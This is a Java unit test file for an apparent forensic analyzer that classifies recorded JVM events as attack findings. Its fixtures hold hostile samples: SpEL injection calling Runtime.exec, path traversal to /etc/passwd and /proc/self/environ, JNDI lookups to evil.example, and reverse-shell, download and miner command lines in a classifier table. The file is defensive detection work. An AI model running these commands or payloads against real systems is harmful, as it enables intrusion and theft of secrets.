package whorl.collector.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import whorl.collector.analysis.findings.Finding;
import whorl.collector.analysis.findings.Report;
import whorl.collector.analysis.findings.Step;
import whorl.collector.analysis.findings.Subject;
import whorl.collector.analysis.kinds.Command;
import whorl.collector.analysis.kinds.Destination;
import whorl.collector.analysis.kinds.Severity;
import whorl.collector.analysis.kinds.Tactic;
import whorl.collector.analysis.kinds.Technique;
import whorl.collector.analysis.questions.FilesWritten;
import whorl.collector.analysis.trail.AnalysisContext;
import whorl.collector.analysis.trail.ProcessFile;
import whorl.collector.store.disk.DataFolder;
import whorl.collector.store.objects.FolderStore;
import whorl.collector.timeline.IndexStatus;
import whorl.evidence.Id;
import whorl.evidence.Json;
import whorl.evidence.Missing;

/** Each analysis: what it must report and what it must not report. */
class AnalysesTest {
  private static final String ADDRESS = "203.0.113.7";
  private static final String HASH = "f4".repeat(32);

  private final Rows rows = new Rows();

  private Report report() throws Exception {
    return Evidences.report(rows);
  }

  private Finding only(String analysis) throws Exception {
    List<Finding> findings = Rows.of(report(), analysis);
    assertThat(findings).as(analysis).hasSize(1);
    return findings.get(0);
  }

  /** Adds an expression that accesses code, for this request. */
  private void addInjection(String request) {
    rows.of(
        request,
        "whorl.ScriptEval",
        "engine",
        "spel",
        "source",
        "T(java.lang.Runtime).getRuntime()");
  }

  private void addAnsweredRequest(String request) {
    rows.request(request, "GET", "/products", "sort=x", ADDRESS, 200);
  }

  @Test
  void wayIn_expressionThatAccessesCode_namesRequestAddressAndExpression() throws Exception {
    rows.request("r0", "GET", "/healthz", "", ADDRESS, 200);
    addInjection("r1");
    addAnsweredRequest("r1");

    Finding finding = only("way-in");

    assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    assertThat(finding.title()).isEqualTo("Way in: expression injection through GET /products");
    assertThat(finding.text())
        .contains("GET /products from 203.0.113.7 (curl/8.5, answered 200)")
        .contains("T(java.lang.Runtime).getRuntime()")
        .contains("earliest contact of 203.0.113.7 in this evidence is GET /healthz");
    assertThat(finding.techniques())
        .contains(Technique.EXPLOIT_PUBLIC_APPLICATION, Technique.SCRIPTING);
    assertThat(finding.subjects())
        .contains(
            new Subject(Subject.Kind.REQUEST, "GET /products"),
            new Subject(Subject.Kind.ADDRESS, ADDRESS));
    assertThat(report().summary()).contains("expression injection through GET /products", ADDRESS);
  }

  /** The agent reports a long expression in pieces. */
  @Test
  void chain_ofALongExpression_hasOneStepForIt() throws Exception {
    String first = "T(java.lang.Runtime).getRuntime()" + " ".repeat(4_000) + "…";
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", first);
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "…  .exec('id')");
    addAnsweredRequest("r1");

    assertThat(report().chain())
        .filteredOn(step -> step.what().contains("evaluate an expression"))
        .hasSize(1);
  }

  /** What is dangerous may stand behind much that is not. */
  @Test
  void wayIn_laterPieceOfAnExpression_isReportedIfTheFirstIsOrdinary() throws Exception {
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", " ".repeat(4_000) + "…");
    rows.of(
        "r1",
        "whorl.ScriptEval",
        "engine",
        "spel",
        "source",
        "…  T(java.lang.Runtime).getRuntime()");
    addAnsweredRequest("r1");

    assertThat(only("way-in").title()).contains("expression injection");
  }

  @Test
  void wayIn_ordinaryExpression_isNotReported() throws Exception {
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "name");
    rows.event("whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Math).random()");
    addAnsweredRequest("r1");

    assertThat(report().findings()).isEmpty();
    assertThat(report().chain()).isEmpty();
    assertThat(report().summary()).contains("Nothing in it looks like an attack");
  }

  @Test
  void wayIn_requestThatRanAProgram_isCritical() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");

    assertThat(only("way-in").severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void wayIn_pathTraversal_isTheRequestThatNamedTheFile() throws Exception {
    rows.of("r1", "whorl.FileOpen", "path", "/etc/passwd", "access", "read", "failed", false);
    rows.request("r1", "GET", "/view", "file=..%252F..%252Fetc%252Fpasswd", ADDRESS, 200);
    rows.of("r2", "whorl.FileOpen", "path", "/app/application.yml", "access", "read");
    rows.request("r2", "GET", "/reload", "", "10.0.0.1", 200);

    assertThat(only("way-in").title()).isEqualTo("Way in: path traversal through GET /view");
  }

  @Test
  void wayIn_requestWithoutAnswer_isNamedByItsFirstRow() throws Exception {
    rows.of(
        "r1",
        "whorl.ProcessStart",
        "command",
        "/bin/bash -i",
        "request.method",
        "POST",
        "request.path",
        "/x",
        "request.remoteAddress",
        ADDRESS);

    assertThat(only("way-in").text()).contains("POST /x from 203.0.113.7", "no answer");
  }

  @ParameterizedTest
  @CsvSource({
    "whorl.JndiLookup,name,ldap://evil.example/a,a JNDI lookup,HIGH",
    "whorl.JndiAnswer,codebase,http://evil.example/,a JNDI lookup,HIGH",
    "whorl.AgentLoad,jar,/tmp/a.jar,an agent loaded into the JVM,HIGH",
  })
  void wayIn_outsideAnyRequest_isReportedToo(
      String action, String field, String value, String kind, Severity severity) throws Exception {
    rows.event(action, field, value);

    Finding finding = only("way-in");
    assertThat(finding.title()).isEqualTo("Way in: " + kind + " outside any request");
    assertThat(finding.severity()).isEqualTo(severity);
  }

  @Test
  void wayIn_jndiNameWithAnExpression_isOneOfARequestAlone() throws Exception {
    rows.event("whorl.JndiLookup", "name", "java:comp/env/${mail.session}");
    rows.request("r1", "POST", "/x", "", ADDRESS, 200);
    rows.of("r1", "whorl.JndiLookup", "name", "java:comp/${env:SECRET}");

    assertThat(only("way-in").text()).contains("POST /x", "java:comp/${env:SECRET}");
  }

  @Test
  void agentThatTheCommandLineNames_isNoWayIn_andNoTampering() throws Exception {
    rows.on(
        "java.instrument/sun.instrument.InstrumentationImpl.loadClassAndCallPremain"
            + "(InstrumentationImpl.java:586)");
    rows.event("whorl.AgentLoad", "jar", "/app/other-agent.jar");

    assertThat(report().findings()).noneMatch(finding -> finding.severity().atLeast(Severity.LOW));
  }

  /** Its signed facts name its jar; any other agent is a finding, also one with a similar name. */
  @Test
  void ownAgentLoadedLate_isNoTampering_andOthersAre() throws Exception {
    String own = "/tmp/whorl-attach-0123456789abcdef/whorl-agent.jar";
    rows.event("jdk.JavaAgent", "name", own, "dynamic", true);
    AnalysisContext context =
        Analyses.context(
            rows.timeline,
            FolderStore.existing(new DataFolder(Path.of("nowhere"))),
            Evidences.of(Rows.EVIDENCE),
            Evidences.READY);

    assertThat(tampering(context, own)).isEmpty();
    assertThat(tampering(context, null)).hasSize(1);
    assertThat(tampering(context, "/tmp/other.jar")).hasSize(1);
  }

  private static List<Finding> tampering(AnalysisContext context, @Nullable String agentJar)
      throws Exception {
    return Analyses.run(
            new AnalysisContext(
                context.evidence(),
                context.index(),
                context.timeline(),
                context.trail(),
                context.jars(),
                new ProcessFile(null, agentJar, List.of()),
                context.gap()))
        .report()
        .findings()
        .stream()
        .filter(finding -> finding.title().contains("agent was loaded"))
        .toList();
  }

  @ParameterizedTest
  @CsvSource({
    "whorl.JndiLookup,name,java:comp/env/jdbc/shop",
    "whorl.JndiAnswer,factory,org.apache.naming.factory.ResourceFactory",
    "whorl.Deserialization,type,java.util.ArrayList",
    "whorl.XmlEntity,systemId,http://www.springframework.org/schema/beans.xsd",
    "whorl.Reflection,className,com.example.Order",
    "whorl.LoaderCreate,urls,file:/app/lib/a.jar",
    "whorl.Tamper,what,attach-listener-started",
    "whorl.LibraryLoad,path,/tmp/libnetty_transport.so",
    "whorl.SocketConnect,host,db.internal",
    "whorl.DnsLookup,host,api.partner.example",
    "jdk.SecurityPropertyModification,key,networkaddress.cache.ttl",
    "whorl.ProcessStart,command,uname -a",
    "whorl.FileDelete,path,/tmp/upload.tmp",
  })
  void ordinaryEvents_outsideRequests_areAtMostLow(String action, String field, String value)
      throws Exception {
    rows.event(action, field, value);

    assertThat(report().findings()).noneMatch(each -> each.severity().atLeast(Severity.MEDIUM));
    assertThat(report().chain()).isEmpty();
  }

  @Test
  void ordinaryRequest_thatReadsWritesAndConnects_isNotReported() throws Exception {
    rows.of("r1", "whorl.FileOpen", "path", "/data/invoice.txt", "access", "read");
    rows.of("r1", "whorl.FileOpen", "path", "/var/log/shop.log", "access", "append");
    rows.of("r1", "whorl.FileOpen", "path", "/app/keys/shop.p12", "access", "read");
    rows.of("r1", "whorl.SocketConnect", "host", "db", "address", "10.0.0.9", "port", 5432);
    rows.of("r1", "whorl.ClassDefine", "className", "A$Proxy", "origin", "proxy");
    rows.of("r1", "whorl.Deserialization", "type", "java.util.HashMap", "gadget", false);
    rows.request("r1", "GET", "/invoices", "id=7", ADDRESS, 200);

    assertThat(report().findings()).isEmpty();
  }

  @Test
  void processes_reportCommandLineRequestAndExitCode() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 77);
    rows.event("whorl.ProcessExit", "pid", 77, "exitCode", 3);
    addAnsweredRequest("r1");

    Finding finding = only("processes");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text())
        .contains("the request GET /products started /bin/sh -c id (pid 77, exit code 3)");
    assertThat(finding.techniques()).contains(Technique.UNIX_SHELL);
    assertThat(finding.rows()).hasSize(2);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' | REVERSE_SHELL",
        "nc -e /bin/sh 203.0.113.9 4444 | REVERSE_SHELL",
        "/tmp/xmrig -o stratum+tcp://pool:3333 | MINER",
        "/usr/bin/curl -s http://evil.example/x | DOWNLOAD",
        "sh -c 'wget http://evil.example/x' | DOWNLOAD",
        "/bin/sh -c id | SHELL",
        "env X=1 /bin/bash -c id | SHELL",
        "python3 -c print(1) | SHELL",
        "nsenter -t 1 -m | ESCAPE",
        "whoami | DISCOVERY",
        "/usr/bin/ffmpeg -i a.mov b.mp4 | OTHER",
      })
  void command_isClassifiedByItsLine(String line, Command kind) {
    assertThat(Command.of(line.strip())).isEqualTo(kind);
  }

  @Test
  void filesRead_secretOfASuspectRequest_isHighAndMustBeRotated() throws Exception {
    rows.of("r1", "whorl.FileOpen", "path", "/proc/self/environ", "access", "read");
    rows.request("r1", "GET", "/view", "file=../../proc/self/environ", ADDRESS, 200);

    Finding read = only("files-read");
    Finding secrets = only("secrets");

    assertThat(read.severity()).isEqualTo(Severity.HIGH);
    assertThat(read.techniques()).containsExactly(Technique.PROC_FILESYSTEM);
    assertThat(secrets.severity()).isEqualTo(Severity.HIGH);
    assertThat(secrets.text()).contains("every secret in the environment variables");
  }

  @Test
  void filesRead_missingFile_isMediumAndNothingMustBeRotated() throws Exception {
    rows.of(
        "r1",
        "whorl.FileOpen",
        "path",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "access",
        "read",
        "failed",
        true);
    rows.request("r1", "GET", "/view", "file=../../token", ADDRESS, 404);

    assertThat(only("files-read").severity()).isEqualTo(Severity.MEDIUM);
    assertThat(only("files-read").title()).startsWith("Tried to read");
    assertThat(Rows.of(report(), "secrets")).isEmpty();
  }

  @Test
  void filesWritten_droppedMadeExecutableStartedAndDeleted_isOneFinding() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.FileOpen", "path", "/dev/shm/x", "access", "write", "created", true);
    rows.of("r1", "whorl.FileMode", "path", "/dev/shm/x", "mode", "+x");
    rows.of("r1", "whorl.ProcessStart", "command", "/dev/shm/x --now", "pid", 9);
    rows.of("r1", "whorl.FileDelete", "path", "/dev/shm/x");
    addAnsweredRequest("r1");
    rows.event("file.modified", "path", "/dev/shm/x", "sha256", HASH);

    Finding finding = only("files-written");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text())
        .contains("created at", "made executable at", "deleted at", "was started with its path")
        .contains("SHA-256 is " + HASH);
    assertThat(finding.techniques())
        .contains(Technique.FILE_PERMISSIONS, Technique.FILE_DELETION, Technique.TOOL_TRANSFER);
    assertThat(finding.subjects()).contains(new Subject(Subject.Kind.HASH, HASH));
  }

  @Test
  void filesWritten_beforeTheBreakIn_areNotTheIntruders() throws Exception {
    rows.event("whorl.FileOpen", "path", "/tmp/lib.so", "access", "write", "created", true);
    rows.later(1000);
    addInjection("r1");
    addAnsweredRequest("r1");

    assertThat(Rows.of(report(), "files-written")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"+x", "755", "0755", "100755", "rwxr-xr-x", "711"})
  void mode_withExecuteBit_isExecutable(String mode) {
    assertThat(FilesWritten.isExecutable(mode)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "644", "rw-r--r--", "999", "77777777777777777777", "-x99999999999999"})
  void mode_withoutExecuteBit_isNotExecutable(String mode) {
    assertThat(FilesWritten.isExecutable(mode)).isFalse();
  }

  @Test
  void codeLoaded_classOfAnUnknownGenerator_namesItsDigest() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ClassDefine", "className", "a.Promo", "origin", "lookup", "sha256", HASH);
    addAnsweredRequest("r1");
    rows.event(
        "class.found",
        "className",
        "a.Promo",
        "findings",
        List.of(Map.of("kind", "made-class", "severity", "medium", "reason", "it is in no jar")));

    Finding finding = only("code-loaded");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text()).contains("a.Promo", HASH, "it is in no jar");
    assertThat(finding.subjects())
        .contains(new Subject(Subject.Kind.CLASS, "a.Promo"), new Subject(Subject.Kind.HASH, HASH));
  }

  @Test
  void codeLoaded_classOfAKnownGenerator_isNotReported() throws Exception {
    addInjection("r1");
    rows.of(
        "r1",
        "whorl.ClassDefine",
        "className",
        "a.B$$Fast",
        "origin",
        "loader",
        "generator",
        "spring-cglib");
    addAnsweredRequest("r1");

    assertThat(Rows.of(report(), "code-loaded")).isEmpty();
  }

  @Test
  void codeLoaded_findingOfTheCapture_isTakenOver() throws Exception {
    rows.event(
        "class.found",
        "className",
        "org.apache.catalina.core.StandardWrapperValve",
        "findings",
        List.of(
            Map.of("kind", "changed-class", "severity", "critical", "reason", "it was changed")));

    assertThat(only("code-loaded").severity()).isEqualTo(Severity.CRITICAL);
    assertThat(only("code-loaded").techniques()).containsExactly(Technique.PROCESS_INJECTION);
  }

  @ParameterizedTest
  @CsvSource({
    "169.254.169.254,169.254.169.254,80,METADATA",
    "metadata.google.internal.,,80,METADATA",
    "pool.supportxmr.com,203.0.113.1,3333,MINING_POOL",
    "x.oast.fun,203.0.113.1,443,OUT_OF_BAND",
    "transfer.sh,203.0.113.1,443,DROP_SITE",
    "abc.onion,,80,ANONYMITY",
    "evil.example,203.0.113.1,1389,NAMING_SERVICE",
    "kubernetes.default.svc,10.0.0.1,443,CLUSTER",
    "evil.example,203.0.113.1,443,PUBLIC_ADDRESS",
    "db,10.0.0.1,5432,PRIVATE_ADDRESS",
    "localhost,127.0.0.1,9,SELF",
    "evil.example,,0,NAME",
    "1.2.3.999,,0,NAME",
  })
  void destination_isClassifiedByNameAddressAndPort(
      String host, String address, long port, Destination kind) {
    assertThat(Destination.of(host, address == null ? "" : address, port)).isEqualTo(kind);
  }

  @Test
  void contacts_shellAndConnectionOfOneRequest_lookLikeAReverseShell() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.SocketConnect", "host", "", "address", "198.51.100.9", "port", 4444);
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh", "pid", 8);
    addAnsweredRequest("r1");

    Finding finding = only("contacts");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text()).contains("198.51.100.9", "4444", "reverse shell");
    assertThat(finding.techniques())
        .contains(Technique.NON_STANDARD_PORT, Technique.NON_APPLICATION_PROTOCOL);
  }

  @Test
  void contacts_newAfterTheBreakIn_areLow_knownOnesAreNot() throws Exception {
    rows.event("whorl.DnsLookup", "host", "known.example");
    rows.later(100);
    addInjection("r1");
    addAnsweredRequest("r1");
    rows.event("whorl.DnsLookup", "host", "known.example");
    rows.event("whorl.DnsLookup", "host", "fresh.example");

    Finding finding = only("contacts");

    assertThat(finding.severity()).isEqualTo(Severity.LOW);
    assertThat(finding.text()).contains("fresh.example").doesNotContain("known.example");
  }

  @Test
  void contacts_metadataServiceForARequest_isCriticalAndTheWayIn() throws Exception {
    rows.of(
        "r1",
        "whorl.SocketConnect",
        "host",
        "169.254.169.254",
        "address",
        "169.254.169.254",
        "port",
        80);
    rows.request("r1", "GET", "/fetch", "url=http://169.254.169.254/", ADDRESS, 200);

    assertThat(only("contacts").severity()).isEqualTo(Severity.CRITICAL);
    assertThat(only("contacts").techniques()).contains(Technique.CLOUD_METADATA);
    assertThat(only("way-in").title()).contains("server-side request forgery");
  }

  @Test
  void persistence_filterRegisteredForARequest_isCritical() throws Exception {
    rows.of("r1", "whorl.Registration", "kind", "filter", "className", "x.Shell", "target", "/*");
    rows.request("r1", "POST", "/import", "", ADDRESS, 200);

    Finding finding = only("persistence");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.techniques()).containsExactly(Technique.WEB_SHELL);
    assertThat(finding.text()).contains("registered the filter x.Shell for /*");
    assertThat(report().summary()).contains("What stays: registered the filter x.Shell");
  }

  @Test
  void persistence_filterThatTheCaptureFound_isTakenOver_andIsNoCodeFinding() throws Exception {
    rows.event(
        "class.found",
        "className",
        "x.Shell",
        "sha256",
        HASH,
        "findings",
        List.of(
            Map.of(
                "kind",
                "filter",
                "severity",
                "critical",
                "reason",
                "it is in no jar",
                "target",
                "/*")));

    Finding finding = only("persistence");

    assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(finding.text()).contains("the filter x.Shell was in use for /*: it is in no jar");
    assertThat(Rows.of(report(), "code-loaded")).isEmpty();
  }

  @Test
  void wayIn_requestKnownOnlyByARegistration_isNotNamedByItsPattern() throws Exception {
    rows.of(
        "r1",
        "whorl.Registration",
        "kind",
        "filter",
        "className",
        "x.Shell",
        "target",
        "/shell/*",
        "request.method",
        "POST",
        "request.path",
        "/import");

    assertThat(only("way-in").title()).endsWith("POST /import");
  }

  @ParameterizedTest
  @CsvSource({
    "/etc/cron.d/x,CRON",
    "/etc/systemd/system/x.service,SYSTEMD_SERVICE",
    "/root/.ssh/authorized_keys,SSH_AUTHORIZED_KEYS",
    "/etc/ld.so.preload,DYNAMIC_LINKER",
    "/home/a/.bashrc,SHELL_CONFIGURATION",
    "/app/webapps/ROOT/x.jsp,WEB_SHELL",
  })
  void persistence_startupFile_isCriticalForARequest(String path, Technique technique)
      throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.FileOpen", "path", path, "access", "write", "created", true);
    addAnsweredRequest("r1");

    assertThat(only("persistence").severity()).isEqualTo(Severity.CRITICAL);
    assertThat(only("persistence").techniques()).containsExactly(technique);
  }

  @Test
  void secrets_printedToTheConsole_areLow() throws Exception {
    rows.event("whorl.Console", "stream", "out", "line", "using password=hunter22 for db");
    rows.event("whorl.Console", "stream", "out", "line", "password=*** for db");

    Finding finding = only("secrets");
    assertThat(finding.severity()).isEqualTo(Severity.LOW);
    assertThat(finding.rows()).hasSize(1);
    assertThat(finding.text()).doesNotContain("hunter22");
  }

  @Test
  void tampering_withTheRecording_isHigh_forARequestCritical() throws Exception {
    rows.event("whorl.Tamper", "what", "recording-stopped", "target", "1");

    assertThat(only("tampering").severity()).isEqualTo(Severity.HIGH);

    addInjection("r1");
    rows.of("r1", "whorl.Tamper", "what", "recording-stopped", "target", "1");
    addAnsweredRequest("r1");

    assertThat(only("tampering").severity()).isEqualTo(Severity.CRITICAL);
    assertThat(report().summary()).contains("tampered with: the flight recording was stopped");
  }

  @Test
  void alert_ofNoRequest_isAFindingOfItsLevel_lowOnesAreNot() throws Exception {
    rows.event("whorl.Alert", "id", "1", "title", "Price List Read", "level", "high");
    rows.event("alert.raised", "id", "1", "title", "Price List Read", "level", "high");
    rows.event("whorl.Alert", "id", "2", "title", "Log Removed", "level", "low");

    Finding finding = only("alert");
    assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    assertThat(finding.title()).isEqualTo("Alert: Price List Read");
    assertThat(finding.rows()).hasSize(1);
  }

  @Test
  void alert_ofARequestThatNothingExplains_makesItSuspect() throws Exception {
    rows.alert("r1", "Price List Read", "high");
    rows.of("r1", "whorl.FileOpen", "path", "/data/prices", "access", "read");
    rows.request("r1", "GET", "/prices", "", ADDRESS, 200);

    assertThat(only("way-in").title()).isEqualTo("A request raised an alert: GET /prices");
    assertThat(only("way-in").severity()).isEqualTo(Severity.HIGH);
    assertThat(only("files-read").text()).contains("/data/prices");
  }

  @Test
  void notSeen_encryptedMissingAndDamaged_areNamed() throws Exception {
    rows.event("whorl.Console", "line", "hello");
    IndexStatus index =
        new IndexStatus(
            1,
            IndexStatus.State.READY,
            1,
            1,
            null,
            null,
            List.of(new IndexStatus.Source("recording.jfr", 0, "chunk 2 is cut off")));

    Report report =
        Evidences.report(
            rows,
            Evidences.of(
                Rows.EVIDENCE,
                new Id("agent-00000001"),
                "age1xyz",
                List.of(new Missing("heap", "it would take too long"))),
            index);

    assertThat(Rows.of(report, "not-seen").get(0).text())
        .contains("encrypted to age1xyz", "heap: it would take too long", "recording.jfr: chunk 2");
    assertThat(report.notExamined()).hasSize(3);
  }

  @Test
  void summary_encryptedEvidence_beginsWithWhatWasNotExamined_andNeverSoundsInnocent()
      throws Exception {
    rows.event("whorl.Console", "line", "hello");
    Report report =
        Evidences.report(
            rows,
            Evidences.of(Rows.EVIDENCE, new Id("agent-00000001"), "age1xyz", List.of()),
            Evidences.READY);

    assertThat(report.summary())
        .startsWith("Nothing in the artifacts was examined: all are encrypted to age1xyz.")
        .contains("cannot be said from here", "This evidence of shop")
        .doesNotContain("Nothing in it looks", "Nothing was found", "nothing that was tampered");
    assertThat(report.notExamined()).hasSize(1).first().asString().contains("age1xyz");
  }

  @Test
  void summary_partThatIsMissing_comesFirst_andTheRestIsCalledTheRest() throws Exception {
    rows.event("whorl.Console", "line", "hello");

    Report report =
        Evidences.report(
            rows,
            Evidences.of(
                Rows.EVIDENCE,
                new Id("agent-00000001"),
                null,
                List.of(new Missing("heap", "it would take too long"))),
            Evidences.READY);

    assertThat(report.summary())
        .startsWith("Not examined: heap: it would take too long. This evidence of shop")
        .contains("Nothing in the rest looks like an attack", "In the rest nothing was found")
        .doesNotContain("Nothing in it", "Nothing was found that");
  }

  @Test
  void chain_isInTheOrderOfTime_andNamesEachRowOnce() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ClassDefine", "className", "a.P", "origin", "lookup", "sha256", HASH);
    rows.of("r1", "whorl.FileOpen", "path", "/etc/cron.d/x", "access", "write", "created", true);
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");

    List<Step> chain = report().chain();

    assertThat(chain)
        .extracting(Step::tactic)
        .containsExactly(
            Tactic.INITIAL_ACCESS,
            Tactic.EXECUTION,
            Tactic.DEFENSE_EVASION,
            Tactic.COMMAND_AND_CONTROL,
            Tactic.EXECUTION);
    assertThat(chain).isSortedAccordingTo(java.util.Comparator.comparing(Step::time));
    assertThat(chain).extracting(Step::row).doesNotHaveDuplicates();
  }

  @Test
  void json_hasTheFieldsOfTheApi_andIsReadBack() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");
    Report report = report();

    var json = Json.LENIENT.readTree(Json.bytes(report));

    assertThat(json.fieldNames())
        .toIterable()
        .containsExactly("evidence", "notExamined", "summary", "findings", "chain", "scope");
    var finding = json.path("findings").path(0);
    assertThat(finding.fieldNames())
        .toIterable()
        .containsExactly(
            "id",
            "analysis",
            "severity",
            "title",
            "text",
            "techniques",
            "tactics",
            "from",
            "to",
            "rows",
            "subjects");
    assertThat(finding.path("severity").asText()).isEqualTo("critical");
    assertThat(finding.path("techniques").path(0).path("id").asText()).startsWith("T1");
    assertThat(json.path("chain").path(0).fieldNames())
        .toIterable()
        .containsExactly("time", "what", "row", "tactic");
    assertThat(Json.MAPPER.readValue(Json.bytes(report), Report.class)).isEqualTo(report);
  }
}
